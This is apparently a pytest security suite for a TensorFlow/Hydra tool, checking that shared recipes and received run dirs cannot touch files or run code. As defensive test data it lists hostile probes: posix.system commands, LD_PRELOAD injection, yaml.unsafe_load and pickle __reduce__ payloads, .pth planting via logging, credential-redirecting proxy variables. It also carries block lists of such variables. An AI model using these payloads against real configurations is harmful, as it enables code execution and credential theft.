"""A config (a recipe shared by someone else) cannot touch the file system or run code.

Every probe is a real attempt: a target that would write, delete, copy, fetch or run something,
aimed at files inside the test's tmp dir. Each must end with exit code 2 and one line, from a
plain run and from `tfrecipe validate` alike, before anything is imported or called: the tmp dir
is left exactly as it was and no run dir exists.
"""

from __future__ import annotations

import json
import textwrap
from pathlib import Path

import pytest
from conftest import REPO, TINY
from helpers.probes import redacted_log
from omegaconf import OmegaConf

from tests.helpers.optuna_recipes import validate_storage_recipe

# name -> (overrides, what the one-line report must name); {tmp} is the test's tmp dir.
PROBES = {
    "write_file_as_callback": (
        [
            "+callbacks.extra.x._target_=tensorflow.io.write_file",
            "+callbacks.extra.x.filename={tmp}/written",
            "+callbacks.extra.x.contents=hi",
        ],
        ["callbacks.extra.x._target_", "tensorflow.io.write_file", "keras.callbacks.Callback"],
    ),
    "rmtree_as_callback": (
        [
            "+callbacks.extra.x._target_=tensorflow.io.gfile.rmtree",
            "+callbacks.extra.x.path={tmp}/keep",
        ],
        ["tensorflow.io.gfile.rmtree", "keras.callbacks.Callback"],
    ),
    "makedirs_as_model": (
        ["model._target_=tensorflow.io.gfile.makedirs", "+model.path={tmp}/made"],
        ["model._target_", "tensorflow.io.gfile.makedirs", "model builder"],
    ),
    "copy_as_dataset": (
        [
            "dataset._target_=tensorflow.io.gfile.copy",
            "+dataset.src={tmp}/keep/file",
            "+dataset.dst={tmp}/copied",
        ],
        ["dataset._target_", "tensorflow.io.gfile.copy", "dataset builder"],
    ),
    "load_library": (
        ["model._target_=tensorflow.load_library", "+model.library_location={tmp}/lib.so"],
        ["tensorflow.load_library", "model builder"],
    ),
    "get_file": (
        [
            "+callbacks.extra.x._target_=keras.utils.get_file",
            "+callbacks.extra.x.origin=http://127.0.0.1:9/x",
            "+callbacks.extra.x.fname={tmp}/fetched",
        ],
        ["keras.utils.get_file"],
    ),
    "keras_src_internals": (
        ["model._target_=keras.src.utils.file_utils.rmtree", "+model.path={tmp}/keep"],
        ["keras.src.utils.file_utils.rmtree", "private"],
    ),
    "tensorflow_python_internals": (
        [
            "dataset._target_=tensorflow.python.lib.io.file_io.delete_recursively_v2",
            "+dataset.path={tmp}/keep",
        ],
        ["tensorflow.python.lib.io.file_io.delete_recursively_v2", "private"],
    ),
    "a_callback_that_deletes_its_directory": (
        [
            "+callbacks.extra.x._target_=keras.callbacks.BackupAndRestore",
            "+callbacks.extra.x.backup_dir={tmp}/keep",
        ],
        ["keras.callbacks.BackupAndRestore", "EarlyStopping"],
    ),
    "posix_allowed": (
        [
            "allowed_targets=[posix]",
            "model._target_=posix.system",
            "+model.command=touch {tmp}/ran",
        ],
        ["allowed_targets", "'posix'", "standard library"],
    ),
    "runpy_allowed": (
        ["allowed_targets=[runpy]", "dataset._target_=runpy.run_path", "+dataset.path={tmp}/s.py"],
        ["allowed_targets", "'runpy'", "standard library"],
    ),
    "ctypes_allowed": (
        ["allowed_targets=[ctypes]", "model._target_=ctypes.CDLL", "+model.name={tmp}/lib.so"],
        ["'ctypes'", "standard library"],
    ),
    "tensorflow_allowed": (
        ["allowed_targets=[tensorflow]", "model._target_=tensorflow.io.write_file"],
        ["allowed_targets", "'tensorflow'", "framework"],
    ),
    "code_not_allowed": (
        ["+callbacks.extra.x._target_=code.InteractiveConsole"],
        ["code.InteractiveConsole", "keras.callbacks.Callback"],
    ),
    "a_private_name_under_the_users_prefix": (
        ["allowed_targets=[tests.helpers]", "model._target_=tests.helpers.user_models._hidden"],
        ["tests.helpers.user_models._hidden", "private"],
    ),
    "hydra_callback": (
        ["+hydra.callbacks.x._target_=tempfile.mkdtemp", "+hydra.callbacks.x.dir={tmp}"],
        ["hydra.callbacks.x", "Hydra callbacks are not supported"],
    ),
    "hydra_callback_running_source": (
        [
            "+hydra.callbacks.x._target_=tensorflow.python.autograph.pyct.loader.load_source",
            '+hydra.callbacks.x.source=\'open("{tmp}/ran", "w")\'',
            "+hydra.callbacks.x.delete_on_exit=false",
        ],
        ["hydra.callbacks.x", "Hydra callbacks are not supported"],
    ),
    "env_set_ld_preload": (
        ["+hydra.job.env_set.LD_PRELOAD={tmp}/evil.so"],
        ["hydra.job.env_set.LD_PRELOAD=", "evil.so'", "a config may set only", "OMP_NUM_THREADS"],
    ),
    "env_set_pythonpath": (
        ["+hydra.job.env_set.PYTHONPATH={tmp}"],
        ["hydra.job.env_set.PYTHONPATH=", "a config may set only"],
    ),
    "hydra_logging_factory": (
        ["hydra.job_logging.handlers.console.class=posix.system"],
        ["hydra.job_logging.handlers.console.class", "posix.system", "logging.StreamHandler"],
    ),
    # A package's loaders turn data into code: yaml.unsafe_load ran a YAML tag as Python.
    "yaml_allowed": (
        [
            "allowed_targets=[yaml]",
            "dataset._target_=yaml.unsafe_load",
            "+dataset.stream='!!python/object/apply:builtins.open [\"{tmp}/ran\", w]'",
        ],
        ["allowed_targets", "'yaml'", "turns data into code"],
    ),
    "joblib_allowed": (
        ["allowed_targets=[joblib.numpy_pickle]", "model._target_=joblib.numpy_pickle.load"],
        ["allowed_targets", "'joblib.numpy_pickle'", "third-party"],
    ),
    # Python runs each `import` line of a .pth file on its path at start-up: a log line could.
    "log_file_pth": (
        ["hydra.job_logging.handlers.file.filename={tmp}/evil.pth"],
        ["hydra.job_logging.handlers.file.filename=", "evil.pth'", ".log file inside the run dir"],
    ),
    "log_file_outside_the_run_dir": (
        ["hydra.job_logging.handlers.file.filename={tmp}/keep/file.log"],
        ["hydra.job_logging.handlers.file.filename=", "is outside the run dir"],
    ),
    "log_file_emptied": (
        ["+hydra.job_logging.handlers.file.mode=w"],
        ["hydra.job_logging.handlers.file.mode=w", "expected a (append"],
    ),
    "log_format_reaching_attributes": (
        ["+hydra.job_logging.formatters.simple.style='{'"],
        ["hydra.job_logging.formatters.simple.style='{'", "expected %"],
    ),
    # W&B sends the API key to whichever host WANDB_BASE_URL names.
    "env_set_wandb_base_url": (
        ["+hydra.job.env_set.WANDB_BASE_URL=http://127.0.0.1:9"],
        ["hydra.job.env_set.WANDB_BASE_URL=", "a config may set only"],
    ),
    "output_subdir_elsewhere": (
        ["hydra.output_subdir={tmp}/keep"],
        ["hydra.output_subdir=", "inside the run dir"],
    ),
}


def _fill(overrides: list[str], tmp: Path) -> list[str]:
    return [o.replace("{tmp}", str(tmp)) for o in overrides]


def _snapshot(root: Path) -> dict[str, bytes | None]:
    return {
        str(p.relative_to(root)): p.read_bytes() if p.is_file() else None for p in root.rglob("*")
    }


@pytest.fixture
def victim(tmp_path) -> Path:
    """What a probe aims at: a directory holding a file, which must survive untouched."""
    (tmp_path / "keep").mkdir()
    (tmp_path / "keep" / "file").write_text("precious\n")
    (tmp_path / "s.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'w')\n")
    return tmp_path


def _one_line_report(result) -> str:
    assert result.returncode == 2, result.stderr[-3000:]
    assert "Traceback" not in result.stderr, result.stderr[-3000:]
    lines = [line for line in result.stderr.splitlines() if line.startswith("tfrecipe: invalid")]
    assert len(lines) == 1 and "problems)" not in lines[0], result.stderr[-3000:]
    return lines[0]


@pytest.mark.parametrize("probe", sorted(PROBES))
def test_a_probe_is_refused_by_a_run_and_by_validate_with_no_side_effect(cli, victim, probe):
    overrides, fragments = PROBES[probe]
    overrides = _fill(overrides, victim)
    run_dir = victim / "run"
    before = _snapshot(victim)

    run = cli(*overrides, *TINY, f"hydra.run.dir={run_dir}", env={"PYTHONPATH": str(REPO)})
    validate = cli("validate", *overrides, env={"PYTHONPATH": str(REPO)})

    report = _one_line_report(run)
    for fragment in fragments:
        assert fragment in report, report
    assert _one_line_report(validate) == report, "validate reports the same problem"
    assert _snapshot(victim) == before, "nothing written, deleted or created"


@pytest.mark.parametrize("probe", sorted(PROBES))
def test_a_probe_is_refused_by_validate_in_process_with_no_side_effect(victim, probe):
    """The test above without processes, so the fast tier (`pytest -m fast`) has every probe."""
    from tfrecipe.cli.commands import validate
    from tfrecipe.errors import ConfigError

    overrides, fragments = PROBES[probe]
    before = _snapshot(victim)
    with pytest.raises(ConfigError) as refused:
        validate(_fill(overrides, victim))
    for fragment in fragments:
        assert fragment in str(refused.value), refused.value
    assert _snapshot(victim) == before, "nothing written, deleted or created"


def test_a_target_outside_the_slots_is_refused(cli, tmp_path):
    run_dir = tmp_path / "run"
    overrides = [
        "+model.head._target_=tensorflow.io.write_file",
        f"+model.head.filename={tmp_path}/x",
    ]
    for result in (cli(*overrides, f"hydra.run.dir={run_dir}"), cli("validate", *overrides)):
        assert result.returncode == 2 and "Traceback" not in result.stderr
        assert "model.head._target_=tensorflow.io.write_file: a config names targets only in" in (
            result.stderr
        )
    assert sorted(tmp_path.iterdir()) == []


def test_a_sweep_is_refused_before_hydra_runs_its_callbacks(cli, victim):
    before = _snapshot(victim)
    result = cli(
        "-m",
        "loop.epochs=1,2",
        "+hydra.callbacks.x._target_=tempfile.mkdtemp",
        f"+hydra.callbacks.x.dir={victim}",
        f"hydra.sweep.dir={victim / 'sweep'}",
    )
    assert "hydra.callbacks.x" in _one_line_report(result)
    assert _snapshot(victim) == before


def test_each_value_of_a_sweep_is_checked(cli, victim):
    before = _snapshot(victim)
    result = cli(
        "-m",
        "+callbacks.extra.x._target_=keras.callbacks.EarlyStopping,keras.utils.get_file",
        f"hydra.sweep.dir={victim / 'sweep'}",
    )
    assert "keras.utils.get_file" in _one_line_report(result)
    assert _snapshot(victim) == before


def test_a_users_config_dir_is_checked_too(cli, victim):
    conf = victim / "my_conf"
    conf.mkdir()
    before = _snapshot(victim)
    result = cli(
        "--config-dir",
        str(conf),
        "+hydra.callbacks.x._target_=tempfile.mkdtemp",
        f"+hydra.callbacks.x.dir={victim}",
        f"hydra.run.dir={victim / 'run'}",
    )
    assert "hydra.callbacks.x" in _one_line_report(result)
    assert _snapshot(victim) == before


def test_the_kinds_tfrecipe_ships_are_valid(cli):
    result = cli(
        "validate",
        "+callbacks.extra.stop._target_=keras.callbacks.EarlyStopping",
        "+callbacks.extra.lr._target_=keras.callbacks.ReduceLROnPlateau",
        "hydra/launcher=joblib",
        "hydra/sweeper=optuna",
    )
    assert result.returncode == 0, result.stderr[-3000:]


# Variables that decide what code a process loads: each is refused in `hydra.job.env_set`.
CODE_ENV = [
    "LD_PRELOAD",
    "LD_LIBRARY_PATH",
    "LD_AUDIT",
    "DYLD_INSERT_LIBRARIES",
    "PYTHONSTARTUP",
    "PYTHONPATH",
    "PYTHONHOME",
    "PYTHONWARNINGS",
    "BASH_ENV",
    "ENV",
    "PATH",
    "PERL5OPT",
    "PERL5LIB",
    "RUBYOPT",
    "NODE_OPTIONS",
    "JAVA_TOOL_OPTIONS",
    "GCONV_PATH",
    "GLIBC_TUNABLES",
    "XLA_FLAGS",
    "TF_PLUGGABLE_DEVICE_LIBRARY_PATH",
    "ld_preload",
]
PLAIN_ENV = [
    "TF_CPP_MIN_LOG_LEVEL",
    "CUDA_VISIBLE_DEVICES",
    "WANDB_MODE",
    "OMP_NUM_THREADS",
    "PYTHONHASHSEED",
    "PYTHONUNBUFFERED",
    "TF_NUM_INTRAOP_THREADS",
    "TF_NUM_INTEROP_THREADS",
]


# Variables that send data or credentials elsewhere, or move homes, caches and temp files.
ELSEWHERE_ENV = [
    "WANDB_BASE_URL",
    "HTTPS_PROXY",
    "HTTP_PROXY",
    "https_proxy",
    "ALL_PROXY",
    "HOME",
    "KERAS_HOME",
    "TMPDIR",
    "WANDB_DIR",
    "WANDB_API_KEY",
    "TF_CONFIG",
    "KERAS_BACKEND",
    "TF_USE_LEGACY_KERAS",
    "NCCL_NET_PLUGIN",
    "SSL_CERT_FILE",
    "REQUESTS_CA_BUNDLE",
]


@pytest.mark.parametrize("name", CODE_ENV + ELSEWHERE_ENV)
def test_env_set_refuses_a_variable_outside_its_allow_list(name):
    from tfrecipe.cli.commands import validate
    from tfrecipe.errors import ConfigError

    with pytest.raises(ConfigError) as refused:
        validate([f"+hydra.job.env_set.{name}=/tmp/x", "+hydra.job.env_set.WANDB_MODE=offline"])
    assert str(refused.value).startswith(
        f"hydra.job.env_set.{name}='/tmp/x': a config may set only CUDA_DEVICE_ORDER, "
    ), refused.value
    assert "shell" in str(refused.value) and len(refused.value.problems) == 1


def test_env_set_takes_ordinary_variables_and_env_copy_takes_code_ones():
    """env_copy only repeats this environment's own value (Hydra overwrites env_set with it)."""
    from tfrecipe.cli.commands import validate

    validate([f"+hydra.job.env_set.{name}=1" for name in PLAIN_ENV])
    validate(["hydra.job.env_copy=[PATH]", "+hydra.job.env_set.PATH=/elsewhere"])


def test_env_copy_refuses_a_secret(monkeypatch):
    """Hydra would write the copied value into the run dir's .hydra/hydra.yaml."""
    from tfrecipe.cli.commands import validate
    from tfrecipe.errors import ConfigError

    monkeypatch.setenv("WANDB_API_KEY", "0123456789abcdef")
    with pytest.raises(ConfigError, match="env_copy=WANDB_API_KEY: would write that secret"):
        validate(["hydra.job.env_copy=[WANDB_API_KEY]"])


@pytest.mark.parametrize(
    ("storage", "valid"),
    [
        ("null", True),
        ("'sqlite:///${hydra.sweep.dir}/study.db'", True),
        ("'journal:///${hydra.sweep.dir}/study.log'", True),
        ("'postgresql://user:pw@203.0.113.1/db'", False),
        ("'redis://203.0.113.1'", False),
    ],
)
def test_optuna_storage_from_a_config_is_a_file_or_nothing(tmp_path, storage, valid):
    refused = None if valid else r"hydra\.sweeper\.storage=.*expected sqlite:///FILE"
    validate_storage_recipe(tmp_path, storage, refused=refused)


@pytest.mark.parametrize("storage", ["sqlite:///study.db", "journal:////tmp/study.log"])
def test_a_recipes_storage_file_outside_the_sweep_dir_is_the_command_lines(tmp_path, storage):
    """A shared recipe must not add Optuna's tables to a database of yours (issue 44)."""
    from tfrecipe.cli.commands import validate
    from tfrecipe.errors import ConfigError

    recipe = tmp_path / "shared.yaml"
    recipe.write_text(
        "# @package _global_\ndefaults: [{override /hydra/sweeper: optuna}]\n"
        f"hydra: {{sweeper: {{storage: '{storage}'}}}}\n"
    )
    with pytest.raises(ConfigError, match=r"hydra\.sweeper\.storage=.*outside the sweep dir"):
        validate([f"recipe={recipe}"])
    validate(["hydra/sweeper=optuna", f"hydra.sweeper.storage={storage}"])  # yours: allowed


def test_a_sweep_refuses_env_set_before_anything_runs(cli, victim):
    before = _snapshot(victim)
    result = cli(
        "-m",
        "+hydra.job.env_set.OMP_NUM_THREADS=1,2",
        f"+hydra.job.env_set.BASH_ENV={victim}/s.py",
        f"hydra.sweep.dir={victim / 'sweep'}",
    )
    assert "hydra.job.env_set.BASH_ENV=" in _one_line_report(result)
    assert _snapshot(victim) == before


def _tampered_run_dir(root: Path, **changes: str) -> Path:
    """A run dir as someone else might hand it over: its config.yaml edited."""
    from tfrecipe.config.compose import compose
    from tfrecipe.rundir import RunFiles

    cfg = compose(TINY)
    for key, value in changes.items():
        OmegaConf.update(cfg, key, value, force_add=True)
    run_dir = root / "received"
    run_dir.mkdir()
    RunFiles(run_dir).write_config(cfg)
    return run_dir


def test_evaluate_refuses_a_tampered_run_dir(cli, victim):
    run_dir = _tampered_run_dir(
        victim,
        **{"model._target_": "tensorflow.io.write_file", "model.filename": str(victim / "x")},
    )
    before = _snapshot(victim)
    report = _one_line_report(cli("evaluate", str(run_dir)))
    assert "model._target_=tensorflow.io.write_file" in report, report
    assert _snapshot(victim) == before, "nothing instantiated, no evaluation.json"


def test_evaluate_refuses_hydra_callbacks_slipped_into_a_run_dir(cli, victim):
    run_dir = _tampered_run_dir(victim)
    (run_dir / "config.yaml").write_text(
        (run_dir / "config.yaml").read_text()
        + f"hydra:\n  callbacks:\n    x:\n      _target_: tempfile.mkdtemp\n      dir: {victim}\n"
    )
    before = _snapshot(victim)
    assert "hydra.callbacks.x" in _one_line_report(cli("evaluate", str(run_dir)))
    assert _snapshot(victim) == before


SECRET = "sk-test-0123456789abcdef"


def test_a_secret_interpolated_under_any_key_is_redacted(monkeypatch, compose_cfg):
    from tfrecipe.rundir import public_config

    monkeypatch.setenv("WANDB_API_KEY", SECRET)
    cfg = compose_cfg(
        "logger=[wandb]",
        "logger.wandb.notes=${oc.env:WANDB_API_KEY}",
        "logger.wandb.name=run-${oc.env:WANDB_API_KEY}",
    )
    public = public_config(cfg)
    assert public["logger"]["wandb"]["notes"] == "***"
    assert public["logger"]["wandb"]["name"] == "***"
    assert SECRET not in json.dumps(public)
    assert public["logger"]["wandb"]["project"] == "tfrecipe", "other values stay"


def test_a_secret_reaches_no_file_of_a_wandb_run(monkeypatch, tmp_path, train_run):
    from helpers import wandb_records

    monkeypatch.setenv("WANDB_API_KEY", SECRET)
    wandb_records.keep_local(monkeypatch, tmp_path)
    summary, run_dir = train_run(
        "logger=[wandb]",
        "logger.wandb.mode=offline",
        "model=mlp",
        "logger.wandb.notes=${oc.env:WANDB_API_KEY}",
        "loop.epochs=1",
    )
    assert summary["status"] == "completed"
    leaked = [p for p in tmp_path.rglob("*") if p.is_file() and SECRET.encode() in p.read_bytes()]
    assert not leaked, f"the secret was written to {leaked}"
    assert (run_dir / "wandb").is_dir() and "notes: '***'" in (run_dir / "config.yaml").read_text()


# --- Trust, second round (issue 24): what only the command line may grant, and Hydra's node ------
def _shared_recipe(root: Path, body: str) -> Path:
    """A recipe file as someone else might share it."""
    path = root / "shared.yaml"
    path.write_text("# @package _global_\n" + textwrap.dedent(body))
    return path


def _yaml_payload(root: Path) -> str:
    """A YAML document that yaml.unsafe_load turns into a call creating `root/ran`."""
    return f"!!python/object/apply:builtins.open ['{root / 'ran'}', 'w']"


def test_a_recipe_granting_yaml_runs_nothing(cli, victim):
    """yaml.unsafe_load ran a YAML tag as Python (it created `ran`), granted by the recipe."""
    recipe = _shared_recipe(
        victim,
        f"""\
        defaults:
          - override /dataset: null
        allowed_targets: [yaml]
        dataset:
          _target_: yaml.unsafe_load
          stream: "{_yaml_payload(victim)}"
        """,
    )
    before = _snapshot(victim)
    run = cli(str(recipe), *TINY, f"hydra.run.dir={victim / 'run'}")
    validate = cli("validate", str(recipe))
    report = _one_line_report(run)
    assert "allowed_targets: 'yaml' is a third-party package" in report, report
    assert _one_line_report(validate) == report
    assert _snapshot(victim) == before, "nothing loaded, no run dir"


# Logging's dictConfig reads two indirections the checks of a handler's literal values miss: a
# handler's `.` sets attributes once it is built (`baseFilename`: where a `delay: true` handler
# opens its file), and a `cfg://` value is another entry's. Either aimed the log, lines in a
# format the recipe wrote, at a `.pth` file, which Python runs at its next start.
LOGGING_INDIRECTIONS = {
    "attribute_setter": (
        """\
        hydra:
          job_logging:
            handlers:
              file:
                delay: true
                .:
                  baseFilename: {tmp}/site/evil.pth
        """,
        "hydra.job_logging.handlers.file['.']: logging's attribute setters",
    ),
    "cfg_reference": (
        """\
        hydra:
          run:
            dir: {tmp}
          job_logging:
            p:
              log: {tmp}/site/evil.pth
            handlers:
              file:
                filename: cfg://p.log
        """,
        "hydra.job_logging.handlers.file.filename=cfg://p.log: logging's cfg:// references",
    ),
}


@pytest.mark.parametrize("case", sorted(LOGGING_INDIRECTIONS))
def test_a_recipes_logging_config_cannot_aim_the_log_elsewhere(cli, victim, case):
    body, fragment = LOGGING_INDIRECTIONS[case]
    (victim / "site").mkdir()
    recipe = _shared_recipe(victim, body.replace("{tmp}", str(victim)))
    before = _snapshot(victim)
    run = cli(str(recipe), "model=mlp", *TINY, cwd=victim)
    validate = cli("validate", str(recipe))
    report = _one_line_report(run)
    assert fragment in report, report
    assert _one_line_report(validate) == report
    assert _snapshot(victim) == before, "no .pth file, no run dir"


@pytest.mark.parametrize("scheme", ["file", "pkg"])
def test_a_recipes_search_path_adds_no_config_option(cli, victim, scheme):
    """A recipe naming its own `hydra.searchpath` (a folder or a package of configs) cannot
    bring in a group option that calls a function: Hydra reads the search path from the primary
    config and the command line only, so the option stays unknown and nothing runs."""
    (victim / "extra" / "model").mkdir(parents=True)
    (victim / "extra" / "model" / "evil.yaml").write_text(
        f"_target_: builtins.open\nfile: {victim / 'ran'}\nmode: w\n"
    )
    where = f"file://{victim / 'extra'}" if scheme == "file" else "pkg://tests"
    recipe = _shared_recipe(
        victim,
        f"""\
        defaults:
          - override /model: evil
        hydra:
          searchpath: ["{where}"]
        """,
    )
    before = _snapshot(victim)
    report = _one_line_report(cli(str(recipe), *TINY, f"hydra.run.dir={victim / 'run'}"))
    assert "model=evil: unknown option for group 'model'" in report, report
    assert _snapshot(victim) == before, "nothing ran, no run dir"


def test_only_the_command_line_grants_a_package(cli, tmp_path):
    recipe = _shared_recipe(
        tmp_path,
        """\
        allowed_targets: [tests.helpers]
        model:
          _target_: tests.helpers.user_models.tiny_dense
        """,
    )
    env = {"PYTHONPATH": str(REPO)}
    refused = cli("validate", str(recipe), "~model.filters", "~model.dense_units", env=env)
    report = _one_line_report(refused)
    assert "allowed_targets: 'tests.helpers' is granted by a config file" in report, report
    assert "pass allowed_targets=[tests.helpers] yourself" in report
    granted = cli(
        "validate",
        str(recipe),
        "~model.filters",
        "~model.dense_units",
        "~model.dropout",
        "allowed_targets=[tests.helpers]",
        env=env,
    )
    assert granted.returncode == 0, granted.stderr[-3000:]


def test_evaluate_runs_nothing_a_received_run_dir_grants_itself(cli, victim):
    run_dir = _tampered_run_dir(victim)
    config = OmegaConf.load(run_dir / "config.yaml")
    config.allowed_targets = ["yaml"]
    config.dataset = {"_target_": "yaml.unsafe_load", "stream": _yaml_payload(victim)}
    OmegaConf.save(config, run_dir / "config.yaml")
    before = _snapshot(victim)
    report = _one_line_report(cli("evaluate", str(run_dir)))
    assert "allowed_targets: 'yaml' is a third-party package" in report, report
    assert _snapshot(victim) == before, "nothing loaded, no evaluation.json"


def test_a_builder_that_returns_another_kind_is_refused_before_use():
    from tfrecipe.config.grants import Grants
    from tfrecipe.config.instantiate import instantiate
    from tfrecipe.errors import ConfigError

    node = {"_target_": "tests.helpers.user_models.tiny_dense"}
    with pytest.raises(ConfigError) as refused:
        instantiate(
            node, key="dataset", grants=Grants(("tests.helpers",)), input_shape=[4], num_outputs=2
        )
    assert str(refused.value) == (
        "dataset._target_=tests.helpers.user_models.tiny_dense: returned a Functional, "
        "expected a dataset builder returning tfrecipe.Splits"
    )


# hydra.sweeper.params (a config file's part of a sweep) -> what the report must name.
SWEEP_PARAMS = {
    "env_set": (
        {"+hydra.job.env_set.LD_PRELOAD": "{tmp}/evil.so"},
        ["hydra.job.env_set.LD_PRELOAD=", "a config may set only"],
    ),
    "logging_class": (
        {"hydra.job_logging.handlers.file.class": "subprocess.Popen"},
        ["hydra.job_logging.handlers.file.class=subprocess.Popen", "standard logging class"],
    ),
    "grant": (
        {"allowed_targets": "'[tests.helpers]'"},
        ["allowed_targets: 'tests.helpers' is granted by a config file"],
    ),
    "target_of_one_point": (
        {"+callbacks.extra.x._target_": "keras.callbacks.EarlyStopping,keras.utils.get_file"},
        ["callbacks.extra.x._target_=keras.utils.get_file"],
    ),
}


@pytest.mark.parametrize("case", sorted(SWEEP_PARAMS))
def test_every_sweep_point_of_a_recipe_is_checked_before_any_job(cli, victim, case):
    params, fragments = SWEEP_PARAMS[case]
    lines = "".join(f"      {k}: {v.replace('{tmp}', str(victim))}\n" for k, v in params.items())
    recipe = _shared_recipe(victim, "hydra:\n  sweeper:\n    params:\n      seed: 1,2\n" + lines)
    before = _snapshot(victim)
    result = cli("-m", f"recipe={recipe}", *TINY, f"hydra.sweep.dir={victim / 'sweep'}")
    report = _one_line_report(result)
    for fragment in fragments:
        assert fragment in report, report
    assert _snapshot(victim) == before, "no job ran, no sweep dir"


def test_the_shipped_sweep_recipe_passes_the_check_of_every_job():
    """Its hydra.sweeper.params (3 learning rates x 2 batch sizes) are ordinary values."""
    from hydra._internal.utils import get_args_parser

    from tfrecipe.cli.job import task as _task
    from tfrecipe.cli.precheck import _check_hydra_configs
    from tfrecipe.cli.sweeps import hydra_configs
    from tfrecipe.config.compose import register_recipes
    from tfrecipe.config.trust import Trust

    register_recipes()
    args = get_args_parser().parse_args(["-m", "recipe=sweep_lr_batch", "seed=1,2"])
    configs = list(hydra_configs(args, _task))
    assert len(configs) == 1 + 3 * 2 * 2, "the sweep's own config, then each job's"
    jobs = {
        (c.optimizer.learning_rate, c.batching.per_replica_batch_size, c.seed)
        for c, _ in configs[1:]
    }
    assert len(jobs) == 12
    sweep_dir = configs[0][1]
    assert [d for _, d in configs[1:]] == [sweep_dir / str(n) for n in range(12)]
    _check_hydra_configs(args, Trust.from_command_line(args.overrides))


def test_a_glob_sweep_is_checked_job_by_job():
    """glob(...) lists a group's options: it needs Hydra's config loader, as the sweeper has."""
    from hydra._internal.utils import get_args_parser

    from tfrecipe.cli.job import task as _task
    from tfrecipe.cli.sweeps import hydra_configs
    from tfrecipe.config.compose import config_dir

    args = get_args_parser().parse_args(["-m", "model=glob(*)", "allowed_targets=[mypkg]"])
    models = [cfg.model._target_ for cfg, _ in hydra_configs(args, _task)][1:]
    options = (config_dir() / "model").glob("*.yaml")
    assert sorted(models) == sorted(f"tfrecipe.models.{option.stem}" for option in options)


def test_a_recipe_that_turns_a_run_into_a_sweep_is_checked_as_one(cli, victim):
    recipe = _shared_recipe(
        victim,
        """\
        hydra:
          mode: MULTIRUN
          sweeper:
            params:
              +hydra.job.env_set.HTTPS_PROXY: http://127.0.0.1:9
        """,
    )
    before = _snapshot(victim)
    result = cli(str(recipe), *TINY, f"hydra.sweep.dir={victim / 'sweep'}")
    assert "hydra.job.env_set.HTTPS_PROXY=" in _one_line_report(result)
    assert _snapshot(victim) == before


def test_a_launchers_shell_lines_come_only_from_the_command_line(cli, victim):
    """submitit writes `setup` lines into each SLURM job's sbatch script."""
    pytest.importorskip("hydra_plugins.hydra_submitit_launcher")
    recipe = _shared_recipe(
        victim,
        f"""\
        defaults:
          - override /hydra/launcher: submitit_slurm
        hydra:
          launcher:
            setup: ["touch {victim / "ran"}"]
        """,
    )
    before = _snapshot(victim)
    sweep = cli("-m", f"recipe={recipe}", "seed=1,2", f"hydra.sweep.dir={victim / 'sweep'}")
    report = _one_line_report(sweep)
    assert report.startswith("tfrecipe: invalid configuration: hydra.launcher.setup=["), report
    assert "only your command line may set it" in report
    assert _snapshot(victim) == before
    own = cli(
        "validate",
        "hydra/launcher=submitit_slurm",
        "hydra.launcher.setup=['module load cuda']",
        "+hydra.launcher.additional_parameters.mail-type=END",
    )
    assert own.returncode == 0, own.stderr[-3000:]


def test_experimental_rerun_unpickles_nothing(cli, victim):
    """Hydra's --experimental-rerun FILE unpickles FILE: this one would create `ran`."""
    import pickle

    class Payload:
        def __reduce__(self):
            return open, (str(victim / "ran"), "w")

    pickled = victim / "config.pickle"
    pickled.write_bytes(pickle.dumps(Payload()))
    before = _snapshot(victim)
    for flag in ("--experimental-rerun", "--experimental-r"):  # argparse takes a prefix too
        report = _one_line_report(cli(flag, str(pickled)))
        assert f"--experimental-rerun={pickled}: not supported" in report, report
    assert _snapshot(victim) == before


@pytest.mark.parametrize("link", ["tfrecipe.log", ".hydra"])
def test_a_symbolic_link_in_the_run_dir_leads_no_write_out(cli, victim, link):
    """A received run dir to resume holds a link where Hydra appends its log or writes .hydra/."""
    run_dir = victim / "run"
    run_dir.mkdir()
    target = victim / "keep" / ("file" if link.endswith(".log") else "")
    (run_dir / link).symlink_to(target)
    before = _snapshot(victim)
    report = _one_line_report(cli(*TINY, f"hydra.run.dir={run_dir}"))
    assert f"{run_dir / link} is a symbolic link" in report, report
    assert _snapshot(victim) == before


@pytest.mark.parametrize("subdir", ["..", "../elsewhere", "/tmp/elsewhere", "."])
def test_output_subdir_stays_inside_the_run_dir(subdir):
    from tfrecipe.cli.commands import validate
    from tfrecipe.errors import ConfigError

    with pytest.raises(ConfigError, match=r"^hydra\.output_subdir=.*inside the run dir"):
        validate([f"hydra.output_subdir={subdir}"])


def test_a_secret_failing_a_check_is_not_printed(cli, monkeypatch):
    monkeypatch.setenv("WANDB_API_KEY", SECRET)
    result = cli("validate", "loop.epochs=${oc.env:WANDB_API_KEY}")
    assert "loop.epochs=***: input should be a valid integer" in _one_line_report(result)
    assert SECRET not in result.stderr + result.stdout


def test_a_secret_failing_a_sweep_jobs_check_reaches_no_file(cli, monkeypatch, tmp_path):
    monkeypatch.setenv("WANDB_API_KEY", SECRET)
    sweep = tmp_path / "sweep"
    # every job's mistake: refused before the first job, in the redacted line, nothing written
    refused = cli("-m", "loop.epochs=${oc.env:WANDB_API_KEY}", f"hydra.sweep.dir={sweep}")
    assert refused.returncode == 2 and not sweep.exists(), refused.stderr[-3000:]
    assert refused.stderr.strip().endswith("loop.epochs=***: input should be a valid integer")
    # one job's: that job fails, and says so without the secret
    epochs = "loop.epochs=1,${oc.env:WANDB_API_KEY}"
    result = cli("-m", epochs, *TINY[1:], "model=mlp", f"hydra.sweep.dir={sweep}")
    assert result.returncode == 1, result.stderr[-3000:]
    summary = json.loads((sweep / "1" / "summary.json").read_text())
    assert summary["error"] == "loop.epochs=***: input should be a valid integer"
    assert "loop.epochs=***" in (sweep / "1" / "tfrecipe.log").read_text()
    leaked = [p for p in sweep.rglob("*") if p.is_file() and SECRET.encode() in p.read_bytes()]
    assert not leaked and SECRET not in result.stderr + result.stdout, leaked
    assert SECRET not in refused.stderr + refused.stdout


def test_a_log_record_is_written_without_secrets(monkeypatch):
    monkeypatch.setenv("MY_SERVICE_TOKEN", SECRET)
    with redacted_log("test_security.redaction") as (logger, stream):
        logger.warning("key %s in the message", SECRET)
        try:
            raise ValueError(f"bad value {SECRET}")
        except ValueError:
            logger.exception("failed")
    written = stream.getvalue()
    assert "key *** in the message" in written and "ValueError: bad value ***" in written
    assert SECRET not in written


def test_the_command_line_record_holds_what_was_typed():
    from tfrecipe.config.command_line import CommandLine

    typed = CommandLine.parse(
        [
            "allowed_targets=[mine.models],[mine.data,other]",
